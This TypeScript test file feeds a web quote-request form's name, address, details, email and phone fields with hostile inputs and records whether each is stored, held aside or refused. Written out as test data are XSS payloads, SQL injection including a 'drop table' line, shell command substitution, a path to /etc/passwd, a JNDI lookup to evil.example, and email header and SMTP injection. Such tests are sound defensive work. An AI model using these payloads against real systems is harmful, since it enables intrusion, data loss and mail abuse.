import { quote } from "./builders";
import { accepted, type Expectation, type HostileCase, invalid, keptAside } from "./HostileRequest";

type Verdict = "kept as typed" | "kept aside" | "refused";

/** What is put into each one-line field, and what becomes of it. Accepted text is stored as typed and escaped when shown. */
const payloads: [name: string, text: string, verdict: Verdict][] = [
  ["bold", "<b>Jane</b>", "kept as typed"],
  ["an element that closes ours", "</td></tr></table><h1>Pay now</h1>", "kept as typed"],
  ["an attribute that ends ours", 'x" onmouseover="alert(1)', "kept as typed"],
  ["a single quote that ends ours", "x' onfocus='alert(1)", "kept as typed"],
  ["a style sheet", "<style>body{display:none}</style>", "kept as typed"],
  ["a comment that hides the rest", "<!-- x", "kept as typed"],
  ["entities", "&lt;b&gt; &amp; &#60;", "kept as typed"],
  ["a script", "<script>alert(1)</script>", "kept aside"],
  ["a picture that runs", "<img src=x onerror=alert(1)>", "kept aside"],
  ["a link", '<a href="https://evil.example">click</a>', "kept aside"],
  ["an svg", "<svg/onload=alert(1)>", "kept aside"],
  ["SQL", "x'); drop table quote_requests; --", "kept as typed"],
  ["SQL with a union", "' union select secret_key from vault --", "kept as typed"],
  ["a filter of PostgREST", "eq.1,or=(id.gt.0)", "kept as typed"],
  ["a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", "kept as typed"],
  ["a formula", '=HYPERLINK("x","y")', "kept as typed"],
  ["a command", "`id`; $(id) | id && id", "kept as typed"],
  ["a format", "%s%s%n %x %d {0}", "kept as typed"],
  ["a path", "../../../../etc/passwd", "kept as typed"],
  ["an LDAP look-up", "${jndi:ldap://evil.example/x}", "kept as typed"],
  ["an encoded word", "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=", "kept as typed"],
  ["an encoded line break", "Jane%0d%0aBcc: victim@example.com", "kept as typed"],
  ["an escaped line break", "Jane\\r\\nBcc: victim@example.com", "kept as typed"],
  ["more addresses", "Jane <victim@example.com>, other@example.com", "kept as typed"],
  ["quotes and a backslash", '"Jane\\" <x@example.com>', "kept as typed"],
  ["a line break and Bcc", "Jane\r\nBcc: victim@example.com", "refused"],
  ["a line feed and a body", "Jane\n\nNew body", "refused"],
  ["a carriage return", "Jane\rX-Evil: 1", "refused"],
  ["a line separator", "Jane\u2028Bcc: victim@example.com", "refused"],
  ["a next line", "Jane\u0085Bcc: victim@example.com", "refused"],
  ["a vertical tab", "Jane\u000bX: 1", "refused"],
  ["NUL", "Jane\0Doe", "refused"],
  ["terminal codes", "\u001b[31mJane\u001b[2J", "refused"],
  ["a backspace", "Jane\b\b\bAdmin", "refused"],
  ["text turned around", "Jane\u202Egpj.exe", "refused"],
  ["an isolate", "Jane\u2066x\u2069y", "refused"],
  ["a tag letter", "Jane\u{E0041}Doe", "refused"],
  ["half a letter", "Jane\ud800Doe", "refused"],
];

const columns = { firstName: "first_name", lastName: "last_name", address: "address" } as const;

const lines = (["firstName", "lastName", "address"] as const).flatMap((field) =>
  payloads.map(([name, text, verdict]): HostileCase => {
    const stored = { [columns[field]]: text };
    const expect: Expectation =
      verdict === "refused"
        ? invalid(field)
        : { ...(verdict === "kept aside" ? keptAside : accepted), stored };
    return { name: `${field}: ${name}`, request: quote({ [field]: text }), expect };
  }),
);

/** Details may have several lines, so a line break is no attack; control characters are dropped. */
const paragraphs: HostileCase[] = (
  [
    [
      "header lines",
      "Hi\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
      "Hi\nBcc: victim@example.com\nContent-Type: text/html\n\n<b>x</b>",
    ],
    [
      "the end of SMTP data",
      "one\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA",
      "one\n.\nMAIL FROM:<x@example.com>\nRCPT TO:<victim@example.com>\nDATA",
    ],
    ["a lonely dot at each line break there is", "a\n.\nb\r.\rc\r\n.\r\nd", "a\n.\nb\n.\nc\n.\nd"],
    [
      "a boundary",
      "----_NmP-0000\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
      "----_NmP-0000\nContent-Type: text/html\n\n<h1>x</h1>",
    ],
    [
      "a file in mail clothes",
      'begin 644 x.exe\n#0V%T\n`\nend\nContent-Disposition: attachment; filename="x.exe"',
      'begin 644 x.exe\n#0V%T\n`\nend\nContent-Disposition: attachment; filename="x.exe"',
    ],
    [
      "elements",
      "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
      "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
    ],
    [
      "conditional comments",
      "<!--[if mso]><v:rect><![endif]-->",
      "<!--[if mso]><v:rect><![endif]-->",
    ],
    ["terminal codes", "a\u001b[31mred\u001b]0;title\u0007b", "a[31mred]0;titleb"],
    ["text turned around", "a\u202Eb", "a\u202Eb"],
    ["a line of 5,000 letters", "x".repeat(5000), "x".repeat(5000)],
    ["line separators", "a\u2028b\u2029c", "a\nb\nc"],
    [
      "JSON that looks like a log line",
      '{"event":"request.received","reference":"Q-00000-00000"}\n{"event":"forged"}',
      '{"event":"request.received","reference":"Q-00000-00000"}\n{"event":"forged"}',
    ],
    ["one link", "See https://example.com/floor-plan", "See https://example.com/floor-plan"],
    ["From at the start of a line", "From me\nFrom you", "From me\nFrom you"],
  ] as const
).map(([name, typed, details]) => ({
  name: `details: ${name}`,
  request: quote({ details: typed }),
  expect: { ...accepted, stored: { details } },
}));

const aside: HostileCase[] = [
  {
    name: "details: a script",
    request: quote({ details: "<script>alert(1)</script>" }),
    expect: keptAside,
  },
  {
    name: "details: links to four websites",
    request: quote({ details: "https://a.example https://b.example www.c.example www.d.example" }),
    expect: keptAside,
  },
  {
    name: "details: a javascript link",
    request: quote({ details: "javascript:alert(1)" }),
    expect: keptAside,
  },
  { name: "details: NUL", request: quote({ details: "a\0b" }), expect: invalid("details") },
  {
    name: "details: half a surrogate pair",
    request: quote({ details: "a\udc00b" }),
    expect: invalid("details"),
  },
];

const emails: HostileCase[] = [
  "jane@example.com\r\nBcc: victim@example.com",
  "jane@example.com\nBcc: victim@example.com",
  "jane@example.com%0aBcc:victim@example.com",
  "jane@example.com, victim@example.com",
  "jane@example.com;victim@example.com",
  "jane@example.com victim@example.com",
  "Jane <jane@example.com>",
  "<jane@example.com>",
  "mailto:jane@example.com",
  "jane@example.com?bcc=victim@example.com",
  "jane@example.com>,<victim@example.com",
  "jane(comment)@example.com",
  "jane@example.com(comment)",
  "group: jane@example.com;",
  "@example.com:jane@example.com",
  "jane@@example.com",
  "jane@example.com@victim.example",
  "jane@[127.0.0.1]",
  "jane@[IPv6:::1]",
  "jane@127.0.0.1",
  "jane@localhost",
  "jane@example",
  "jane@.example.com",
  "jane@example..com",
  "jane@example.com.",
  "jane@-example.com",
  "jane@exam_ple.com",
  "jane@example.c",
  "jane@example.123",
  ".jane@example.com",
  "jane.@example.com",
  "jane..doe@example.com",
  "jane doe@example.com",
  "jane",
  "@",
  "@example.com",
  "jane@",
  "jane@exa\u200bmple.com",
  "jane@example.com\u202e",
  "jane@example.com\0.evil.example",
  '"jane@example.com',
  '"jane"doe@example.com',
  '"ja\r\nne"@example.com',
  "jane@example.com:25",
  "jane@example.com/path",
  "jane@%65xample.com",
  "jane@ex\u2044ample.com",
  `${"a".repeat(65)}@example.com`,
  `jane@${"a".repeat(64)}.com`,
  "jane@xn--\u00e9.com",
].map((email): HostileCase => {
  // A mark at the end is removed like a space, because copied addresses often have one.
  const isTidied = email.endsWith("\u202e");
  return {
    name: `email refused: ${JSON.stringify(email).slice(0, 70)}`,
    request: quote({ email }),
    expect: isTidied ? { ...accepted, stored: { email: "jane@example.com" } } : invalid("email"),
  };
});

const phones: HostileCase[] = [
  "call me",
  "123",
  "+1 404 555",
  "+999 12",
  "404-555-0134\r\nBcc: victim@example.com",
  "404-555-0134<script>alert(1)</script>",
  "+1 (404) 555-0134 @ home",
  "=1+1+1+1+1+1+1",
  "4045550134'; drop table quote_requests; --",
  "1".repeat(41),
  "\u0000404-555-0134\u0000-1",
  "jane@example.com",
  "555-0134",
].map((phone): HostileCase => ({
  name: `phone refused: ${JSON.stringify(phone).slice(0, 70)}`,
  request: quote({ phone }),
  expect: invalid("phone"),
}));

export const injections = [...lines, ...paragraphs, ...aside, ...emails, ...phones];
